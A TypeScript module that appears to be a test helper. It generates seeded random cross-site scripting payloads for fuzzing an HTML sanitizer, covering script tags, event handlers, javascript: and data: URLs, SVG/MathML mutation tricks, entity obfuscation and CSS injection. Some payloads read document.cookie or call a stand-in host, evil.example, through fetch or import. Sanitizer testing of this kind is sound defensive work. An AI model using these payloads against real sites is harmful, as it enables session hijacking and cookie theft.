/** Numbers from 0 to 1, the same for the same seed (mulberry32). */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

type Pick = <T>(from: readonly T[]) => T;
type Family = (pick: Pick) => string;

const calls = [
  'alert(1)',
  'fetch("//evil.example")',
  'document.cookie',
  'location="//evil.example"',
  'import("//evil.example")',
];
const tags = ['p', 'a', 'img', 'table', 'li', 'h3', 'b', 'body', 'video', 'details', 'marquee', 'input', 'x'];
const events = [
  'onerror',
  'onload',
  'onclick',
  'ontoggle',
  'onfocus',
  'onpointerover',
  'onanimationstart',
  'onbegin',
  'ONERROR',
];
const gaps = [' ', '/', '\n', '\t', '\f', '  ', '/\n/'];
const quotes = ['"', "'", '', '`'];
const entities = (text: string, pick: Pick) =>
  [...text]
    .map((letter) => pick([letter, `&#${letter.charCodeAt(0)};`, `&#x${letter.charCodeAt(0).toString(16)};`]))
    .join('');

const schemes: readonly Family[] = [
  (pick) => `javascript:${pick(calls)}`,
  (pick) =>
    `${pick(['jAvAsCrIpT', 'JAVASCRIPT', 'java\nscript', 'java\tscript', ' javascript', 'java\u0001script'])}:${pick(calls)}`,
  (pick) => `${entities('javascript', pick)}${pick([':', '&colon;', '&#58;', '&#x3a;'])}${pick(calls)}`,
  (pick) =>
    `${pick(['javascript', 'vbscript', 'livescript', 'mocha'])}:/*${pick(['-->', '</script>', '*/'])}*/${pick(calls)}`,
  (pick) =>
    `data:${pick(['text/html', 'image/svg+xml', 'text/xml', 'application/xhtml+xml'])}${pick([',', ';base64,'])}${pick(['<svg onload=alert(1)>', 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='])}`,
  (pick) =>
    `${pick(['//', '\\\\', '/\\', '\\/', '///', '/\t/', 'https:\\\\', '/\n/'])}evil.example/${pick(['', 'x.js', '?a=1'])}`,
  (pick) =>
    `${pick(['blob:https://evil.example/1', 'file:///etc/passwd', 'filesystem:https://evil.example/x', 'about:blank', 'intent://evil', 'view-source:javascript:alert(1)', 'ws://evil.example', 'ftp://evil.example', 'mailto:a@evil.example', 'tel:1'])}`,
];
const scheme: Family = (pick) => pick(schemes)(pick);
const attribute = (name: string, value: string, pick: Pick) => {
  const quote = pick(quotes);
  return `${name}=${quote}${value}${quote}`;
};

/** Families of attacks in HTML written by somebody else. */
const families: readonly Family[] = [
  (pick) =>
    `<${pick(['script', 'SCRIPT', 'scr\0ipt', 'script/x', 'script x=">"'])}>${pick(calls)}</script${pick(['>', ' >', '\n>', ''])}`,
  (pick) => `<script ${attribute('src', scheme(pick), pick)}></script>`,
  (pick) => `<scr<script>ipt>${pick(calls)}</scr</script>ipt>`,
  (pick) => `<${pick(tags)}${pick(gaps)}${attribute(pick(events), pick(calls), pick)}>x`,
  (pick) =>
    `<img src=x${pick(gaps)}${pick(events)}${pick(['=', ' =', '= ', '\n=\n'])}${pick(calls)}${pick(['>', '//', ''])}`,
  (pick) => `<a ${attribute('href', scheme(pick), pick)}>x</a>`,
  (pick) => `<img ${attribute(pick(['src', 'srcset', 'lowsrc', 'dynsrc']), scheme(pick), pick)}>`,
  (pick) =>
    `<svg${pick(gaps)}${attribute('onload', pick(calls), pick)}>${pick(['', '<script>alert(1)</script>', '<a xlink:href="javascript:alert(1)"><text>x</text></a>'])}</svg>`,
  (pick) =>
    `<svg><${pick(['animate', 'set', 'animatemotion'])} attributeName=href ${attribute('values', scheme(pick), pick)} onbegin=${pick(calls)}></svg>`,
  (pick) =>
    `<svg><use ${attribute(pick(['href', 'xlink:href']), scheme(pick), pick)}/><foreignObject><iframe ${attribute('src', scheme(pick), pick)}></iframe></foreignObject></svg>`,
  (pick) => `<math ${attribute(pick(['href', 'xlink:href']), scheme(pick), pick)}>x</math>`,
  (pick) =>
    `<math><${pick(['mtext', 'mi', 'annotation-xml encoding="text/html"'])}><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></style></mglyph></table></math>`,
  (pick) =>
    `<${pick(['noscript', 'noembed', 'noframes', 'xmp', 'textarea', 'title', 'plaintext'])}><p title="</${pick(['noscript', 'noembed', 'noframes', 'xmp', 'textarea', 'title'])}><img src=x onerror=${pick(calls)}>">`,
  (pick) =>
    `<form><math><mtext></form><form><mglyph><${pick(['style', 'svg', 'title'])}></math><img src onerror=${pick(calls)}>`,
  (pick) =>
    `${pick(['<!--', '<!-->', '<!--->', '<![CDATA[', '<?xml ', '<!', '</'])}<img src=x onerror=${pick(calls)}>${pick(['-->', '--!>', ']]>', '?>', '>', ''])}`,
  (pick) =>
    `<style>${pick(['*{background:url(javascript:alert(1))}', '@import "//evil.example";', '</style><img src=x onerror=alert(1)>', 'p{behavior:url(#x)}'])}</style>`,
  (pick) =>
    `<p style=${pick(quotes)}${pick(['background:url(javascript:alert(1))', 'width:expression(alert(1))', '-moz-binding:url(//evil.example)', 'position:fixed;inset:0'])}${pick(quotes)}>x</p>`,
  (pick) =>
    `<meta http-equiv=${pick(['refresh', '"refresh"', 'Set-Cookie', 'content-security-policy'])} ${attribute('content', `0;url=${scheme(pick)}`, pick)}>`,
  (pick) => `<base ${attribute('href', pick(['//evil.example/', 'javascript:alert(1)//']), pick)}><a href="x">x</a>`,
  (pick) =>
    `<form ${attribute('action', scheme(pick), pick)}><${pick(['button', 'input type=submit', 'input type=image src=x'])} ${attribute('formaction', scheme(pick), pick)}>x</form>`,
  (pick) => `<iframe ${attribute('srcdoc', entities('<script>alert(1)</script>', pick), pick)}></iframe>`,
  (pick) =>
    `<${pick(['iframe', 'embed', 'frame', 'object data=x', 'applet', 'portal', 'fencedframe'])} ${attribute(pick(['src', 'data', 'code']), scheme(pick), pick)}></iframe>`,
  (pick) =>
    `<template${pick(['', ' shadowrootmode=open', ' shadowroot=open'])}><script>${pick(calls)}</script><img src=x onerror=alert(1)></template>`,
  (pick) =>
    `<link rel=${pick(['stylesheet', 'import', 'preload', 'manifest'])} ${attribute('href', scheme(pick), pick)}>`,
  (pick) =>
    `<${pick(['video', 'audio', 'picture'])}><source ${pick(events)}=${pick(calls)} ${attribute('src', scheme(pick), pick)}></video>`,
  (pick) =>
    `<a ${attribute('id', pick(['location', 'document', 'cookie', '__proto__', 'constructor']), pick)} name=x href="#">x</a><slot is=x-y></slot>`,
  (pick) =>
    `<a href="https://ok.example/" target=${pick(['_blank', '_top', '_parent', 'x'])} ${attribute('ping', scheme(pick), pick)} download onclick=${pick(calls)}>x</a>`,
  (pick) => `%3Cscript%3E${pick(calls)}%3C/script%3E+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  (pick) =>
    `${entities('<img src=x onerror=alert(1)>', pick)}${pick(['', '<b>', '&lt;script&gt;alert(1)&lt;/script&gt;'])}`,
  (pick) =>
    `${pick(['\ufeff', '\u2028', '\u202e', '＜script＞', '\u00bcscript\u00be', '\u0001'])}<${pick(tags)}/${pick(events)}=${pick(calls)}>`,
  (pick) =>
    `"${pick(['', "'", '`'])}>${pick(['<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '</p><script>alert(1)</script>'])}{{constructor.constructor('alert(1)')()}}`,
  (pick) => `${pick(['<b>', '<i><table>', '<ul><li>']).repeat(pick([5, 50, 200]))}<img src=x onerror=${pick(calls)}>`,
  scheme,
];

/** `count` hostile texts, each family in turn, half of them after the word or tag that a filter might expect. */
export function hostilePayloads(seed: number, count: number): string[] {
  const random = seeded(seed);
  const pick: Pick = (from) => {
    const chosen = from[Math.floor(random() * from.length)];
    if (chosen === undefined) throw new Error('Nothing to pick from');
    return chosen;
  };
  return Array.from({ length: count }, (_, index) => {
    const family = families[index % families.length] ?? scheme;
    // NUL is refused before any module sees it; contract-calls.test.ts checks that.
    return `${pick(['', '', 'Hello ', '<p>Hello</p>'])}${family(pick)}`.replaceAll('\0', '');
  });
}
